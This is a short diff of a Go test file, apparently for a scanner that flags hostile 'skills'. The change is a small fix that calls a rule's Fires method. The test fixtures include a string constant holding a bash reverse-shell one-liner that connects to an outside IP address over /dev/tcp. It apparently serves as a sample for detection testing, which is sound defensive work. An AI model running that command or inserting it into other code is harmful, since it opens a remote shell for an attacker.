@@ -172,7 +172,7 @@ func hostileSkills(t *testing.T) (dir string) {
 	}
 	for _, r := range scan.Rules {
 		if r.ID != "name-near" { // which compares skills with each other
-			add(r.In, r.Fires)
+			add(r.In, r.Fires())
 		}
 	}
 	const shell = "```sh\nbash -i >& /dev/tcp/45.67.89.10/4444 0>&1\n```\n"
